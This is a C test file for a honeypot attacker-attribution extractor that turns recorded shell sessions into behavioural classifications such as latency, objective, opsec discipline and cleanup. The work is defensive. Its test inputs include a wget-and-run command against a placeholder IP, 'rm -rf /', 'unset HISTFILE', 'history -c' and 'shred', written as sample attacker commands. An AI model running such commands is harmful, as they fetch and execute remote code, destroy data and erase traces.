/* The extractor: the contract's worked example, each threshold from both sides, and input that means no good. */
#include "attribution_support.h"

#include <math.h>
#include <stdio.h>
#include <string.h>

#include "attribution/extractor.h"
#include "attribution/primitives.h"
#include "base/limits.h"

TestSuite(attribution_extractor, .init = attribution_setup, .fini = attribution_teardown, .timeout = 120);

static const int64_t start_us = INT64_C(1778401501004512); /* 2026-05-10T08:25:01.004512Z */

static ExtractorSession session(double duration_s, const char *ended_reason)
{
    ExtractorSession s = {.attacker_ip = "198.51.100.23",
                          .decky = STR("edge-01"),
                          .service = STR("ssh"),
                          .started_at_us = start_us,
                          .ended_at_us = start_us + (int64_t)(duration_s * 1e6),
                          .duration_s = duration_s,
                          .ended_reason = str_from(ended_reason)};

    cr_assert(uuid_parse_text(STR("8b5b4643-10c2-54f9-9f3e-a31e49d18554"), &s.sid));
    cr_assert(uuid_parse_text(STR("7b1f6c0e-4f0a-4c55-9f0b-0d7a1c2e3f41"), &s.attacker_uuid));
    return s;
}

/* "offset text\n…": a command each, @offset in seconds after the start; "!" before the text: it failed. */
static size_t extract(const ExtractorSession *s, const char *script, Observation ret[EXTRACTOR_PRIMITIVES])
{
    cleanup(extractor_freep) Extractor *x = extractor_new(arena, s);

    while (*script) {
        size_t n = strcspn(script, "\n");
        char *text;
        double offset = strtod(script, &text);
        text += *text == ' ';
        bool errored = *text == '!';
        text += errored;
        extractor_add(x, &(ExtractorCommand){.text = {text, (size_t)(script + n - text)},
                                             .ts_us = s->started_at_us + (int64_t)llround(offset * 1e6),
                                             .errored = errored});
        script += n + (script[n] == '\n');
    }
    return extractor_finish(x, ret);
}

/* "value confidence" of one primitive, "" when it is not there. */
static const char *finding(const Observation *all, size_t n, const char *primitive)
{
    for (size_t i = 0; i < n; i++)
        if (str_eq_cstr(all[i].primitive, primitive))
            return arena_printf(arena, "%.*s %.2f", (int)all[i].value.len - 2, all[i].value.data + 1,
                                all[i].confidence);
    return "";
}

static void expect(const ExtractorSession *s, const char *script, const char *primitive, const char *want)
{
    Observation all[EXTRACTOR_PRIMITIVES];
    size_t n = extract(s, script, all);
    const char *got = finding(all, n, primitive);

    cr_assert_str_eq(got, want, "%s of\n%s\nis \"%s\", not \"%s\"", primitive, script, got, want);
}

Test(attribution_extractor, worked_example_of_the_contract)
{
    static const char *const want[] = {
        "temporal.session_duration=medium 0.85",
        "temporal.escalation_pattern=bursty 0.40",
        "temporal.lifecycle_markers.landing_ritual=absent 0.40",
        "temporal.lifecycle_markers.exit_behavior=graceful 0.65",
        "cognitive.inter_command_latency_class=llm_heavyweight 0.40",
        "cognitive.planning_depth=deep 0.40",
        "cognitive.command_branch_diversity=unknown 1.00",
        "cognitive.exploration_style=methodical 0.40",
        "cognitive.tool_vocabulary=narrow 0.40",
        "cognitive.feedback_loop_engagement=unknown 1.00",
        "operational.opsec_discipline=careless 0.30",
        "operational.cleanup_behavior=none 0.35",
    };
    ExtractorSession s = session(149.12, "closed");
    Observation all[EXTRACTOR_PRIMITIVES];

    size_t n = extract(&s, "11.296488 uname -a\n39.912488 cd /tmp; wget http://203.0.113.80/x.sh; sh x.sh", all);
    cr_assert_eq(n, ARRAY_SIZE(want));
    for (size_t i = 0; i < n; i++) {
        const char *got = arena_printf(arena, STR_FMT "=%s", STR_ARG(all[i].primitive),
                                       finding(all, n, str_cstr(arena, all[i].primitive)));
        cr_assert_str_eq(got, want[i]);
    }
}

/* The event brings them as they were sent, while the id is one of what is stored. */
Test(attribution_extractor, evidence_is_named_as_it_will_be_stored)
{
    cleanup(buf_free) Buf longest = {0};
    ExtractorSession s = session(10, "closed");
    Observation all[EXTRACTOR_PRIMITIVES];

    s.decky = (Str){"a\0b\xff", 4};
    cr_assert(extract(&s, "", all) > 0);
    cr_assert(str_eq_cstr(all[0].evidence_ref, "cowrie:a\xef\xbf\xbd"
                                               "b\xef\xbf\xbd/ssh/2026-05-10#8b5b4643-10c2-54f9-9f3e-a31e49d18554"));
    while (longest.len < LIMIT_SOURCE_ID_BYTES)
        buf_add(&longest, "\xc3\xa9");
    s.decky = s.service = buf_str(&longest);
    cr_assert(extract(&s, "", all) > 0 && all[0].evidence_ref.len <= LIMIT_SOURCE_ID_BYTES);
    cr_assert(str_eq(text_sanitize(arena, all[0].evidence_ref), all[0].evidence_ref), "cut within a character");
}

Test(attribution_extractor, envelope_is_that_of_the_contract)
{
    ExtractorSession s = session(149.12, "closed");
    Observation all[EXTRACTOR_PRIMITIVES];
    size_t n = extract(&s, "1 id", all);

    cr_assert_gt(n, 0);
    for (size_t i = 0; i < n; i++) {
        const Observation *o = &all[i];
        Uuid id = uuid_v5(
            &UUID_NS_OBSERVATION,
            str_from(arena_printf(arena, STR_FMT "|" STR_FMT, STR_ARG(o->evidence_ref), STR_ARG(o->primitive))));
        cr_assert(str_eq_cstr(o->evidence_ref, "cowrie:edge-01/ssh/2026-05-10#8b5b4643-10c2-54f9-9f3e-a31e49d18554"));
        cr_assert_eq(uuid_cmp(&o->id, &id), 0);
        cr_assert(o->has_envelope && o->value_kind == VALUE_KIND_CATEGORICAL &&
                  str_eq_cstr(o->source, "decnet-ingest"));
        cr_assert(o->ts == 1778401650.124512 && o->window_end_ts == o->ts && o->window_start_ts == 1778401501.004512);
        cr_assert_str_eq(o->attacker_ip, "198.51.100.23");
        cr_assert_eq(uuid_cmp(&o->attacker_uuid, &s.attacker_uuid), 0);
        for (size_t j = 0; j < i; j++)
            cr_assert_not(str_eq(all[j].primitive, o->primitive));
    }
}

Test(attribution_extractor, every_value_is_in_the_vocabulary)
{
    static const char *const tokens[] = {"id",      "uname",  "wget x",        "rm -rf /", "exit",
                                         "history", "man ls", "a | b | c | d", "ssh",      "crontab",
                                         "cat",     "foo",    "unset",         "shred"};
    uint64_t seed = 5;

    for (size_t round = 0; round < 2000; round++) {
        ExtractorSession s = session((double)random_below(&seed, 5000), round % 2 ? "closed" : "idle");
        cleanup(buf_free) Buf script = {0};
        double at = 0;
        for (size_t i = random_below(&seed, 20); i > 0; i--) {
            at += (double)random_below(&seed, 400) / 10;
            buf_printf(&script, "%g %s%s\n", at, random_below(&seed, 4) ? "" : "!",
                       tokens[random_below(&seed, ARRAY_SIZE(tokens))]);
        }
        Observation all[EXTRACTOR_PRIMITIVES], again[EXTRACTOR_PRIMITIVES];
        size_t n = extract(&s, script.data ? script.data : "", all);
        cr_assert_eq(extract(&s, script.data ? script.data : "", again), n);
        for (size_t i = 0; i < n; i++) {
            const Primitive *p = primitive_find(all[i].primitive);
            cr_assert_not_null(p);
            Str bare = {all[i].value.data + 1, all[i].value.len - 2};
            const char *at_word = strstr(p->values, str_cstr(arena, bare));
            cr_assert(at_word && (at_word[bare.len] == ' ' || !at_word[bare.len]), STR_FMT, STR_ARG(all[i].value));
            cr_assert(all[i].confidence > 0 && all[i].confidence <= 1);
            cr_assert(str_eq(all[i].value, again[i].value) && all[i].confidence == again[i].confidence);
        }
        arena_reset(arena);
    }
}

Test(attribution_extractor, a_session_without_commands_has_a_duration_only)
{
    static const struct {
        double duration;
        const char *want;
    } rows[] = {{59.9, "short 0.85"}, {60, "medium 0.85"},     {599.9, "medium 0.85"}, {600, "long 0.85"},
                {3599, "long 0.85"},  {3600, "marathon 0.85"}, {1e12, "marathon 0.85"}};
    Observation all[EXTRACTOR_PRIMITIVES];

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        ExtractorSession s = session(0, "closed");
        s.duration_s = rows[i].duration;
        cr_assert_eq(extract(&s, "", all), 1);
        cr_assert_str_eq(finding(all, 1, "temporal.session_duration"), rows[i].want);
    }
    ExtractorSession s = session(0, "closed");
    cr_assert_eq(extract(&s, "", all), 0);
    cr_assert_eq(extract(&s, "0 \t \n1  ", all), 0, "blank commands are none");
    expect(&s, "0 id", "temporal.session_duration", "short 0.85");
    s.started_at_us = TIME_NONE;
    cr_assert_eq(extract(&s, "", all), 0);
    s = session(10, "closed");
    s.ended_at_us = TIME_NONE;
    cr_assert_eq(extract(&s, "0 id", all), 0);
    static const int64_t refused[] = {-1, INT64_C(253402300799999999)}; /* as a double, the last is in the year 10000 */
    for (size_t i = 0; i < ARRAY_SIZE(refused); i++) {
        s.started_at_us = s.ended_at_us = refused[i];
        cr_assert_eq(extract(&s, "0 id", all), 0, "an observation of then would be refused when it comes back");
    }
    s.ended_at_us = 0;
    cr_assert(extract(&s, "0 id", all) > 0);
}

typedef struct Case {
    const char *script, *want;
} Case;

static void expect_all(const ExtractorSession *s, const char *primitive, const Case *cases, size_t n)
{
    for (size_t i = 0; i < n; i++)
        expect(s, cases[i].script, primitive, cases[i].want);
}

Test(attribution_extractor, thresholds_of_time)
{
    static const Case latency[] = {
        {"0 a", ""},
        {"0 a\n0.3 b", "instant 0.40"},
        {"0 a\n0.31 b", "typing_speed 0.40"},
        {"0 a\n1.5 b", "typing_speed 0.40"},
        {"0 a\n2 b", "deliberate 0.40"},
        {"0 a\n2.01 b", "llm_lightweight 0.40"},
        {"0 a\n8 b", "llm_lightweight 0.40"},
        {"0 a\n30 b", "llm_heavyweight 0.40"},
        {"0 a\n30.1 b", "long 0.40"},
        {"0 a\n1 b\n5 c", "llm_lightweight 0.40"}, /* the median of two is their mean, 2.5 */
        {"0 a\n1 b\n2 c\n3 d\n103 e", "typing_speed 0.80"},
        {"9 a\n1 b", "instant 0.40"}, /* backwards is no time at all */
    };
    static const Case consistency[] = {
        {"0 a\n1 b", ""},
        {"0 a\n1 b\n2 c", "metronomic 0.40"},
        {"0 a\n0 b\n0 c", ""},
        {"5 a\n4 b\n3 c", ""},
        {"0 a\n1 b\n4 c", "variable 0.40"},
        {"0 a\n0.1 b\n0.2 c\n0.3 d\n10 e", "bimodal 0.75"},
        {"0 a\n1 b\n2 c\n3 d\n4 e", "metronomic 0.75"},
    };
    static const Case planning[] = {
        {"0 a", ""},
        {"0 a\n2 b", "deep 0.40"},
        {"0 a\n1.5 b", "shallow 0.40"},
        {"0 a\n0.3 b", "reactive 0.40"},
        {"0 a\n2 b\n2.1 c", "deep 0.40"},
        {"0 a\n2 b\n2.1 c\n2.2 d", "reactive 0.40"},
        {"0 a\n2 b\n2.5 c\n3 d\n5 e\n5.5 f", "deep 0.65"},
    };
    ExtractorSession s = session(120, "closed");

    expect_all(&s, "cognitive.inter_command_latency_class", latency, ARRAY_SIZE(latency));
    expect_all(&s, "cognitive.inter_command_consistency", consistency, ARRAY_SIZE(consistency));
    expect_all(&s, "cognitive.planning_depth", planning, ARRAY_SIZE(planning));
}

Test(attribution_extractor, escalation_counts_windows)
{
    static const struct {
        double duration;
        const char *script, *want;
    } rows[] = {
        {0, "0 a", ""},
        {5, "0 a\n1 b\n2 c\n3 d\n4 e", "sustained 0.40"}, /* one window */
        {25, "1 a\n11 b\n21 c\n2 d\n12 e\n22 f", "sustained 0.40"},
        {50, "1 a\n11 b\n21 c\n31 d\n41 e", "sustained 0.60"},
        {50, "1 a\n2 b\n3 c\n4 d\n5 e", "bursty 0.60"},
        {50, "1 a\n11 b\n12 c\n21 d\n31 e\n32 f\n33 g", "erratic 0.60"}, /* zero share 0.2, CV 0.73 */
        {50, "-7 a\n11 b\n21 c\n31 d\n900 e", "sustained 0.60"},         /* outside: first and last window */
        {1e300, "1 a\n2 b\n3 c\n4 d\n5 e", "bursty 0.60"},
    };

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        ExtractorSession s = session(60, "closed");
        s.duration_s = rows[i].duration;
        expect(&s, rows[i].script, "temporal.escalation_pattern", rows[i].want);
    }
}

Test(attribution_extractor, thresholds_of_words)
{
    static const Case landing[] = {
        {"0 id\n1 ls", "absent 0.40"},         {"0 id\n1 uname -a", "present 0.40"},
        {"0 id\n1 ls\n2 id", "present 0.65"},  {"0 a\n1 b\n2 c\n3 d\n4 id\n5 w", "absent 0.65"},
        {"0  \t id\n1 who;ls", "absent 0.40"}, /* the second token is "who;ls" */
    };
    static const Case exit_closed[] = {
        {"0 ls\n1 exit", "graceful 0.65"},      {"0 rm x\n1 logout", "graceful 0.65"},
        {"0 rm x\n1 ls\n2 cd", "cleanup 0.65"}, {"0 rm x\n1 ls\n2 cd\n3 w", "graceful 0.65"},
        {"0 exit\n1 ls", "graceful 0.65"},
    };
    static const Case diversity[] = {
        {"0 a\n1 b\n2 c\n3 d", "unknown 1.00"},
        {"0 a\n1 b\n2 c\n3 d\n4 d", "linear_playbook 0.80"},
        {"0 a\n1 b\n2 c\n3 c\n4 c", "adaptive_branching 0.80"},
    };
    static const Case style[] = {
        {"0 a", "methodical 0.40"},
        {"0 a\n1 b\n2 a\n3 b\n4 a", "chaotic 0.60"},
        {"0 a\n1 b\n2 c\n3 a", "chaotic 0.40"}, /* 1 of 3 */
        {"0 a\n1 a\n2 a\n3 a", "targeted 0.40"},
        {"0 a\n1 a\n2 b\n3 b", "targeted 0.40"},
        {"0 a\n1 b\n2 c\n3 d\n4 a", "methodical 0.60"}, /* 1 of 4 */
    };
    static const Case vocabulary[] = {
        {"0 a\n1 b\n2 c", "narrow 0.40"},
        {"0 a\n1 b\n2 c\n3 d", "moderate 0.40"},
        {"0 a\n1 b\n2 c\n3 d\n4 e\n5 f\n6 g\n7 h\n8 i", "moderate 0.70"},
        {"0 a\n1 b\n2 c\n3 d\n4 e\n5 f\n6 g\n7 h\n8 i\n9 j", "broad 0.70"},
    };
    ExtractorSession closed = session(120, "closed"), idle = session(120, "idle"), no_reason = session(120, NULL);

    expect_all(&closed, "temporal.lifecycle_markers.landing_ritual", landing, ARRAY_SIZE(landing));
    expect_all(&closed, "temporal.lifecycle_markers.exit_behavior", exit_closed, ARRAY_SIZE(exit_closed));
    expect(&idle, "0 ls", "temporal.lifecycle_markers.exit_behavior", "abrupt 0.45");
    expect(&no_reason, "0 ls", "temporal.lifecycle_markers.exit_behavior", "abrupt 0.45");
    expect_all(&closed, "cognitive.command_branch_diversity", diversity, ARRAY_SIZE(diversity));
    expect_all(&closed, "cognitive.exploration_style", style, ARRAY_SIZE(style));
    expect_all(&closed, "cognitive.tool_vocabulary", vocabulary, ARRAY_SIZE(vocabulary));
}

Test(attribution_extractor, errors_and_what_follows_them)
{
    static const Case retry[] = {
        {"0 a\n1 a", ""},
        {"0 !a\n1 a x", "rerun 0.40"},
        {"0 !a\n1 b", "switch 0.40"},
        {"0 a\n1 !b", "abort 0.40"},
        {"0 !a\n1 a\n2 !c\n3 d", "rerun 0.40"}, /* a tie */
        {"0 !a\n1 b\n2 !c", "switch 0.40"},     /* a tie */
        {"0 !a\n1 !a\n2 !a\n3 !a\n4 !a\n5 a", "rerun 0.65"},
    };
    static const Case help[] = {
        {"0 man ls", ""},
        {"0 !a\n1 man a", "present 0.40"},
        {"0 !a\n1 a\n2 help", "absent 0.40"},
        {"0 !a\n1 !a\n2 !a\n3 !a\n4 !a\n5 info", "present 0.65"},
        {"0 !man", "absent 0.40"},
    };
    ExtractorSession s = session(120, "closed");

    expect_all(&s, "cognitive.error_resilience.retry_tactic", retry, ARRAY_SIZE(retry));
    expect_all(&s, "cognitive.error_resilience.fallback_to_man", help, ARRAY_SIZE(help));
}

Test(attribution_extractor, pipes_outside_of_quotes)
{
    static const struct {
        const char *command;
        const char *want;
    } rows[] = {
        {"a", "shallow 0.40"},
        {"a | b", "shallow 0.40"},
        {"a | b | c", "moderate 0.40"},
        {"a || b", "moderate 0.40"},
        {"a|b|c|d", "deep 0.40"},
        {"a '|' \"||\" \\| | b", "shallow 0.40"},
        {"a '\\' | b | c", "moderate 0.40"}, /* no escape within single quotes */
        {"a \"\\\" | |\" | b", "shallow 0.40"},
        {"a ' | | | |", "shallow 0.40"}, /* never ends */
        {"a \\", "shallow 0.40"},
    };
    ExtractorSession s = session(120, "closed");

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        const char *c = rows[i].command;
        expect(&s, arena_printf(arena, "0 %s\n1 %s\n2 %s\n3 %s", c, c, c, c), "motor.shell_mastery.pipe_chaining_depth",
               "");
        expect(&s, arena_printf(arena, "0 %s\n1 %s\n2 %s\n3 %s\n4 %s", c, c, c, c, c),
               "motor.shell_mastery.pipe_chaining_depth", rows[i].want);
    }
}

Test(attribution_extractor, aims_and_traces)
{
    static const Case aim[] = {
        {"0 ls\n1 id", ""},
        {"0 ls\n1 id\n2 wget", "recon 0.40"},
        {"0 wget\n1 ls\n2 id\n3 curl", "exfil 0.40"}, /* a tie: what came first */
        {"0 ls\n1 wget\n2 curl\n3 id", "recon 0.40"},
        {"0 rm\n1 kill\n2 crontab\n3 foo", "destructive 0.40"},
        {"0 ssh\n1 ftp\n2 docker", "lateral 0.40"},
        {"0 at\n1 passwd\n2 useradd\n3 ls\n4 cat\n5 chsh", "persistence 0.60"},
    };
    static const Case opsec[] = {
        {"0 rm x", "careless 0.30"}, /* cleaning up is no precaution by itself */
        {"0 export A=1", "learning 0.30"},
        {"0 unset HISTFILE", "careful 0.30"},
        {"0 set\n1 a\n2 b\n3 c\n4 rm", "careful 0.45"},
        {"0 history\n1 a\n2 b\n3 c\n4 d", "learning 0.45"},
    };
    static const Case cleanup_cases[] = {
        {"0 ls", "none 0.35"},
        {"0 rm a\n1 rm b\n2 rm c", "partial 0.35"},
        {"0 rm a\n1 history -c\n2 shred b", "thorough 0.35"},
        {"0 rm\n1 a\n2 a\n3 a\n4 a\n5 a\n6 a\n7 a", "none 0.55"},
    };
    ExtractorSession s = session(120, "closed");

    expect_all(&s, "operational.objective", aim, ARRAY_SIZE(aim));
    expect_all(&s, "operational.opsec_discipline", opsec, ARRAY_SIZE(opsec));
    expect_all(&s, "operational.cleanup_behavior", cleanup_cases, ARRAY_SIZE(cleanup_cases));
}

Test(attribution_extractor, huge_sessions_are_bounded)
{
    ExtractorSession s = session(1e6, "closed");
    cleanup(extractor_freep) Extractor *x = extractor_new(arena, &s);
    Observation all[EXTRACTOR_PRIMITIVES];
    char text[LIMIT_COMMAND_BYTES + 100];

    memset(text, 'x', sizeof(text));
    for (size_t i = 0; i < LIMIT_EXTRACT_COMMANDS + 500; i++) { /* all tokens distinct, some of them huge */
        int n = snprintf(text, 32, "t%zu", i);
        bool huge = i % 1000 == 0;
        text[n] = 'x';
        extractor_add(x, &(ExtractorCommand){.text = {text, huge ? sizeof(text) : (size_t)n},
                                             .ts_us = start_us + (int64_t)i * 1000,
                                             .errored = true});
    }
    size_t n = extractor_finish(x, all);
    cr_assert_eq(extractor_ignored(x), 500);
    cr_assert_str_eq(finding(all, n, "cognitive.tool_vocabulary"), "broad 0.70");
    cr_assert_str_eq(finding(all, n, "cognitive.command_branch_diversity"), "linear_playbook 0.80");
    cr_assert_str_eq(finding(all, n, "cognitive.error_resilience.retry_tactic"), "switch 0.65");
    cr_assert_lt(arena_used_bytes(arena), 32 * 1024 * 1024);
}

Test(attribution_extractor, hostile_bytes_and_times)
{
    static const int64_t times[] = {INT64_MAX, INT64_MIN + 1, 0, TIME_NONE, -1, INT64_MAX};
    uint64_t seed = 3;
    Observation all[EXTRACTOR_PRIMITIVES];

    for (size_t round = 0; round < 200; round++) {
        ExtractorSession s = session(120, "closed");
        s.duration_s = (double[]){NAN, INFINITY, -1, 1e308, 5e-324}[round % 5];
        cleanup(extractor_freep) Extractor *x = extractor_new(arena, &s);
        for (size_t i = 0; i < 20; i++) {
            char text[64];
            for (size_t k = 0; k < sizeof(text); k++)
                text[k] = (char)random_next(&seed);
            extractor_add(x, &(ExtractorCommand){.text = {text, random_below(&seed, sizeof(text))},
                                                 .ts_us = times[random_below(&seed, ARRAY_SIZE(times))]});
        }
        extractor_add(x, &(ExtractorCommand){.ts_us = TIME_NONE}); /* no text at all */
        size_t n = extractor_finish(x, all);
        cr_assert_gt(n, 0);
        for (size_t i = 0; i < n; i++)
            cr_assert(isfinite(all[i].confidence));
    }
    extractor_free(NULL);
}
